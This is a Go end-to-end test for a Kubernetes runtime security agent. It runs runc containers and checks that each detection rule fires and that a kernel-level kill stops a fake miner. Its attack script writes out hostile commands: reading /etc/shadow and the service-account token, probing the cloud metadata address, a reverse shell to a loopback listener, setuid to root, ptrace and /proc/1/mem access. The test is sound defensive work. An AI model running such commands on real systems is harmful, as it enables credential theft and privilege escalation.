package agent

import (
	"context"
	"crypto/rand"
	"encoding/hex"

	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/opencontainers/runtime-spec/specs-go"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"

	"github.com/mamori-dev/mamori/internal/runctest"
	"github.com/mamori-dev/mamori/internal/testenv"
	"github.com/mamori-dev/mamori/pkg/runtime/enrich"
	"github.com/mamori-dev/mamori/pkg/runtime/event"
	"github.com/mamori-dev/mamori/pkg/runtime/rules"
	"github.com/mamori-dev/mamori/pkg/runtime/sensor"
)

// memSink keeps alerts for the test to read.
type memSink struct {
	mu     sync.Mutex
	alerts []event.Alert
}

func (m *memSink) Write(_ context.Context, a *event.Alert) error {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.alerts = append(m.alerts, *a)
	return nil
}

func (m *memSink) Close(context.Context) error { return nil }

func (m *memSink) snapshot() []event.Alert {
	m.mu.Lock()
	defer m.mu.Unlock()
	return slices.Clone(m.alerts)
}

func needRuntime(t *testing.T) {
	t.Helper()
	if err := sensor.Supported(); err != nil {
		if os.Getenv("MAMORI_REQUIRE_RUNTIME") == "1" {
			t.Fatalf("MAMORI_REQUIRE_RUNTIME=1 but: %v", err)
		}
		t.Skip(err)
	}
}

func randomID() string {
	b := make([]byte, 32)
	rand.Read(b)
	return hex.EncodeToString(b)
}

// podFor creates a pod bound to node with a running container of the
// given ID, as the kubelet would report it.
func podFor(t *testing.T, ctx context.Context, cs kubernetes.Interface, ns, name, node, ctrID string, labels map[string]string) *corev1.Pod {
	t.Helper()
	p := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name, Labels: labels},
		Spec:       corev1.PodSpec{NodeName: node, Containers: []corev1.Container{{Name: "app", Image: "registry.example/" + name + ":1"}}},
	}
	p, err := cs.CoreV1().Pods(ns).Create(ctx, p, metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	p.Status.Phase = corev1.PodRunning
	p.Status.ContainerStatuses = []corev1.ContainerStatus{{
		Name: "app", ContainerID: "containerd://" + ctrID, Image: "registry.example/" + name + ":1", Ready: true,
		State: corev1.ContainerState{Running: &corev1.ContainerStateRunning{}},
	}}
	p, err = cs.CoreV1().Pods(ns).UpdateStatus(ctx, p, metav1.UpdateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// TestAgentInContainers runs real runc containers in the kubelet's
// containerd cgroup layout, with matching pods on a real API server, and
// checks that each built-in rule fires with the right attribution, that
// ordinary activity raises nothing, and that the in-kernel kill stops a
// process before it writes its marker.
func TestAgentInContainers(t *testing.T) {
	needRuntime(t)
	rootfs := runctest.Rootfs(t)
	cfg := testenv.Start(t)
	cs := testenv.Clientset(t, cfg)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	const node = "node-e2e"
	if _, err := cs.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "shop"}}, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	attackID, quietID := randomID(), randomID()
	web := podFor(t, ctx, cs, "shop", "web", node, attackID, map[string]string{"app": "web"})
	quiet := podFor(t, ctx, cs, "shop", "quiet", node, quietID, map[string]string{"app": "quiet"})

	pods, err := enrich.WatchPods(ctx, cfg, node)
	if err != nil {
		t.Fatal(err)
	}
	res, err := enrich.New(enrich.Options{Pods: pods})
	if err != nil {
		t.Fatal(err)
	}
	defer res.Close()
	builtin, err := rules.Builtin()
	if err != nil {
		t.Fatal(err)
	}
	user, err := rules.Load("testdata/kill.yaml")
	if err != nil {
		t.Fatal(err)
	}
	rs, err := rules.Merge(builtin, user)
	if err != nil {
		t.Fatal(err)
	}
	sink := &memSink{}
	a, err := New(ctx, Options{Rules: rs, Resolver: res, Sink: sink, ModuleAttempts: true})
	if err != nil {
		t.Fatal(err)
	}
	defer a.Close()
	pods.OnChange(func() { a.SyncKillCgroups() })
	runDone := make(chan error, 1)
	go func() { runDone <- a.Run(ctx) }()

	// Listeners on loopback: a mining pool port and a reverse-shell catcher
	// (the containers share the host's network namespace).
	pool, err := net.Listen("tcp4", "127.0.0.1:3333")
	if err != nil {
		t.Skipf("mining-pool port 3333 busy: %v", err)
	}
	defer pool.Close()
	catcher, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer catcher.Close()
	go func() {
		for {
			c, err := catcher.Accept()
			if err != nil {
				return
			}
			go func() { defer c.Close(); buf := make([]byte, 4096); c.Read(buf) }()
		}
	}()
	go func() {
		for {
			c, err := pool.Accept()
			if err != nil {
				return
			}
			c.Close()
		}
	}()

	// A setuid-root copy of the test binary, bind-mounted in: a non-root
	// process that runs it can setuid(0), the privilege change to root.
	suDir := t.TempDir()
	os.Chmod(suDir, 0o755)
	su := filepath.Join(suDir, "su")
	copyFile(t, filepath.Join(rootfs, runctest.TestBin), su)
	if err := os.Chmod(su, 0o755|os.ModeSetuid); err != nil {
		t.Fatal(err)
	}

	tokenDir := t.TempDir()
	os.Chmod(tokenDir, 0o755)
	if err := os.WriteFile(filepath.Join(tokenDir, "token"), []byte("eyJhbGciOiJSUzI1NiJ9.e30.c2ln"), 0o644); err != nil {
		t.Fatal(err)
	}

	// Ordinary activity first: nothing may fire for it.
	quietRes, err := runctest.Run(ctx, t, runctest.Spec{
		PodUID: string(quiet.UID), ContainerID: quietID, Rootfs: rootfs,
		Args: []string{"/bin/sh", "-c", "echo hello; ls / >/dev/null; cat /etc/hostname /etc/passwd >/dev/null; id; date"},
	})
	if err != nil || quietRes.ExitCode != 0 {
		t.Fatalf("quiet container: %v %+v", err, quietRes)
	}

	tb := runctest.TestBin
	script := strings.Join([]string{
		"cat /etc/shadow >/dev/null",
		"echo evil >/etc/evil.conf",
		"cp " + tb + " /tmp/drift && /tmp/drift open /etc/hostname",
		tb + " connect 169.254.169.254:80 & sleep 0.3",
		tb + " connect 127.0.0.1:3333",
		tb + " memfd-exec /bin/true",
		tb + " unshare mnt",
		tb + " module",
		tb + " reverse-shell " + catcher.Addr().String(),
		"cp " + tb + " /usr/bin/apt-get; /usr/bin/apt-get update 2>/dev/null",
		"cp " + tb + " /tmp/xmrig; /tmp/xmrig marker /tmp/marker; echo xmrig-status=$?",
		"su -c true 2>/dev/null; /opt/su/su setuid 0 || true",
		tb + " ptrace 1 || true",
		"head -c1 /proc/1/mem >/dev/null 2>&1 || true",
		"cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null",
		"sleep 2",
	}, "\n")
	// Wait until the watch has the web pod so the selector-scoped kill
	// applies from the first exec.
	deadline := time.Now().Add(10 * time.Second)
	for {
		if _, ok := pods.Pod(string(web.UID)); ok || time.Now().After(deadline) {
			break
		}
		time.Sleep(50 * time.Millisecond)
	}
	attack, err := runctest.Start(ctx, t, runctest.Spec{
		PodUID: string(web.UID), ContainerID: attackID, Rootfs: rootfs, Overlay: true,
		Args: []string{"/bin/sh", "-c", "sleep 0.5; " + script},
		Mounts: []specs.Mount{
			{Destination: "/opt/su", Source: suDir, Type: "bind", Options: []string{"bind", "ro"}},
			{Destination: "/var/run/secrets/kubernetes.io/serviceaccount", Source: tokenDir, Type: "bind", Options: []string{"bind", "ro"}},
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	// The container's cgroup exists now: scope the kill rule to it, as the
	// pod watch's change callback does when the kubelet reports it.
	if err := a.SyncKillCgroups(); err != nil {
		t.Fatal(err)
	}
	// An interactive shell through the runtime (kubectl exec -it … sh).
	if _, err := attack.Exec(ctx, "/bin/sh"); err != nil {
		t.Fatal(err)
	}
	result, err := attack.Wait()
	if err != nil {
		t.Fatal(err)
	}
	out := attack.Stdout()
	// A non-root process of the pod runs the setuid binary.
	if r, err := runctest.Run(ctx, t, runctest.Spec{
		PodUID: string(web.UID), ContainerID: randomID(), Rootfs: rootfs,
		User:   specs.User{UID: 1000, GID: 1000},
		Args:   []string{"/opt/su/su", "setuid", "0"},
		Mounts: []specs.Mount{{Destination: "/opt/su", Source: suDir, Type: "bind", Options: []string{"bind", "ro"}}},
	}); err != nil || r.ExitCode != 0 {
		t.Fatalf("setuid container: %v %+v", err, r)
	}
	if !strings.Contains(out, "xmrig-status=137") {
		t.Errorf("xmrig was not killed by SIGKILL (exit %d); output:\n%s", result.ExitCode, out)
	}
	if attack.UpperDir == "" {
		t.Fatal("the attack container has no overlay upper layer to look for the marker in")
	}
	if _, err := os.Stat(filepath.Join(attack.UpperDir, "tmp/drift")); err != nil {
		t.Fatalf("files the container wrote to /tmp are not in the upper layer: %v", err)
	}
	if _, err := os.Stat(filepath.Join(attack.UpperDir, "tmp/marker")); !os.IsNotExist(err) {
		t.Errorf("xmrig wrote its marker (stat: %v): the kill came too late", err)
	}

	want := []string{
		"shadow-file-read", "write-below-system-dir", "exec-from-temp-dir", "container-drift",
		"cloud-metadata-access", "mining-pool-connect", "fileless-exec", "namespace-change-in-container",
		"kernel-module-load", "reverse-shell", "shell-in-container", "package-manager-in-container",
		"crypto-miner-exec", "kill-test-miner", "privilege-to-root",
		"ptrace-in-container", "proc-mem-open", "service-account-token-read",
	}
	var got []event.Alert
	deadline = time.Now().Add(15 * time.Second)
	for {
		got = sink.snapshot()
		missing := missingRules(got, want)
		if len(missing) == 0 || time.Now().After(deadline) {
			for _, m := range missing {
				t.Errorf("rule %s did not fire", m)
			}
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	for _, al := range got {
		e := al.Event
		if e.Container == nil || e.Container.Pod == nil {
			continue
		}
		pod := e.Container.Pod
		if pod.Name == "quiet" {
			t.Errorf("ordinary activity raised %s: %s", al.Rule, al.Output)
		}
		if e.Container.ID == attackID && (pod.Name != "web" || pod.Namespace != "shop" || e.Container.Name != "app" || pod.Labels["app"] != "web") {
			t.Errorf("%s attributed to %s/%s container %q", al.Rule, pod.Namespace, pod.Name, e.Container.Name)
		}
		if al.Rule == "kill-test-miner" && al.Action != rules.ActionKillKernel {
			t.Errorf("kill-test-miner action %q, want %s", al.Action, rules.ActionKillKernel)
		}
	}
	for _, al := range got {
		if al.Event.Container != nil && al.Event.Container.ID == attackID && al.Event.Container.Pod == nil {
			t.Errorf("%s: container %s not attributed to its pod", al.Rule, attackID[:12])
		}
	}
	for name, n := range a.Sensor().Lost() {
		if n > 0 {
			t.Errorf("sensor %s lost %d events", name, n)
		}
	}
	if t.Failed() {
		for _, al := range got {
			t.Logf("%s: %s (%s)", al.Rule, al.Output, al.Action)
		}
		t.Logf("container output:\n%s", out)
	}
	cancel()
	<-runDone
}

func missingRules(got []event.Alert, want []string) []string {
	var missing []string
	for _, w := range want {
		if !slices.ContainsFunc(got, func(a event.Alert) bool {
			return a.Rule == w && a.Event.Container != nil && a.Event.Container.Pod != nil && a.Event.Container.Pod.Name == "web"
		}) {
			missing = append(missing, w)
		}
	}
	return missing
}

func copyFile(t *testing.T, src, dst string) {
	t.Helper()
	b, err := os.ReadFile(src)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(dst, b, 0o755); err != nil {
		t.Fatal(err)
	}
}
